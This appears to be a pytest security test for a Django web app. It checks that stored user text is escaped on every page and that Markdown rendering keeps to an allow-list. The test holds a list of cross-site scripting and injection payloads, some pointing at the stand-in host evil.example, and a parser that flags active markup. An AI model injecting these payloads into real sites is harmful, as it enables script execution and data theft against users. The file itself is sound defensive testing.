"""S14: what others wrote stays text on every page; Markdown comes out as an allow-list; nothing is marked safe but by who may."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser

import pytest

from accounts.models import Account, Health
from conversations import markdown
from conversations.models import AuditEntry, Job, JobItem
from tests.accounts.support import HTMX
from tests.conftest import ROOT

from .walk import address, body, names

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "\" hx-get='//evil.example' hx-trigger='load' x=\"",
    "{{ 7|add:7 }}{% now 'Y' %}${7*7}",
    "</textarea></title></script><script>alert(1)</script>",
    "<div hx-on:click=alert(1) data-hx-get=//evil.example>x</div>",
]


class Markup(HTMLParser):
    """Collects what a browser would make something of."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in ("iframe", "object", "embed", "base", "style", "math", "img") or (
            tag == "script" and not (given.get("src") or "").startswith("/static/")
        ):
            self.bad.append(f"<{tag} {attrs}")
        for name, value in attrs:
            loose = (value or "").replace("\t", "").replace("\n", "").strip().lower()
            if name.startswith(("on", "hx-on", "data-hx-", "style")) or loose.startswith(("javascript:", "vbscript:", "data:text")):
                self.bad.append(f"{tag} {name}={value}")
            if name in ("src", "href", "action", "hx-get", "hx-post", "content") and "//evil.example" in loose and tag != "a":
                self.bad.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def active(html: str) -> list[str]:
    parser = Markup()
    parser.feed(html)
    return parser.bad


def test_s14_the_search_finds_what_is_active() -> None:
    for payload in PAYLOADS[:7] + PAYLOADS[10:12]:
        assert active(f'<p title="x">{payload}</p>') or payload.startswith("!["), payload
    assert active('<a href=" java\nscript:alert(1)">') and not active("<a href='/x'>x</a><script src='/static/app.js'></script>")


@pytest.fixture
def poisoned(place):
    """The place with a payload wherever another one's words are kept."""

    def poison(payload: str) -> None:
        place.account.conversations.update(title=payload, model=payload[:200], first_message=payload, warning=payload, group=payload[:200])
        details = f"rejected\n400\n{payload}\n{payload}"[:400]
        Account.objects.filter(pk=place.account.pk).update(
            label=payload[:80],
            upstream_name=payload,
            health=Health.NEEDS_REAUTH,
            cause="credentials_rejected",
            cause_detail=details,
            sync_progress={"note": payload, "error": details},
            hints={"access_key_id": payload},
            note=payload,
        )
        place.account.catalogue.update(name=payload[:200], group=payload[:100], price=payload[:100], note=payload)
        values = {"title": payload, "model": payload}
        JobItem.objects.update(title=payload, detail=payload[:400], expected=values, target=values, before=values, after=values, status="failed")
        Job.objects.update(note=payload)
        AuditEntry.objects.create(
            actor=place.job.actor, actor_name=payload, account=place.account, what=payload[:40], before=values, after=values, note=payload
        )
        place.job.actor.__class__.objects.update(name=payload[:150])

    return poison


# The key for the authenticator app as a picture, and what a passkey is made with: data that holds no "<".
OURS = re.compile(
    r'<img class="qr" src="data:image/svg\+xml;base64,[\w+/=]+"[^<>]*>|<script id="passkey-options" type="application/json">[^<]*</script>'
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s14_a_payload_is_text_on_every_page(place, poisoned, client, payload: str) -> None:
    poisoned(payload)
    shown = 0
    for name in names():
        if name == "account_logout":
            continue
        for headers in ({}, HTMX):
            answer = client.get(address(place, name), headers=headers)
            assert answer.status_code != 500, name
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                html = OURS.sub("", body(answer).partition("\n\n")[2] or body(answer))
                assert active(html) == [], f"{name}: {payload}"
                assert not re.search(r"14\d{4}\$", html), f"{name}: a template within a value was run"
                shown += escape(payload[:9]) in html
    assert shown >= 5, "the payload was on hardly any page: what was searched?"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s14_a_message_is_an_allow_list_of_tags_attributes_and_schemes(payload: str) -> None:
    for text in (payload, f"**x** {payload}", f"> {payload}", f"`a` {payload}\n\n{payload}", f"```html\n{payload}\n```"):
        html = str(markdown.render(text, anchor="m"))
        assert active(html) == []
        tags = set(re.findall(r"<([a-z][a-z0-9]*)", html))
        allowed = {"p", "strong", "em", "a", "code", "pre", "blockquote", "ul", "ol", "li", "br", "hr", "span", "div", "del", "button", "svg", "use"}
        allowed |= {f"h{n}" for n in range(1, 7)} | {"table", "thead", "tbody", "tr", "th", "td"}
        assert tags <= allowed, tags - allowed
        assert all(link.startswith(("http://", "https://", "mailto:", "#", "/static/")) for link in re.findall(r'(?:href|src)="([^"]*)"', html))
        assert "<img" not in html


def test_s14_marked_safe_only_where_it_is_cleaned() -> None:
    marking = re.compile(r"mark_safe|SafeString\(|format_html|__html__|\|\s*safe\b|autoescape off")
    found = set()
    for part in ("accounts", "conversations", "config", "templates"):
        for path in (ROOT / part).rglob("*"):
            if path.suffix in (".py", ".html") and marking.search(path.read_text(encoding="utf-8")):
                found.add(str(path.relative_to(ROOT)))
    assert found == {"conversations/markdown.py"}
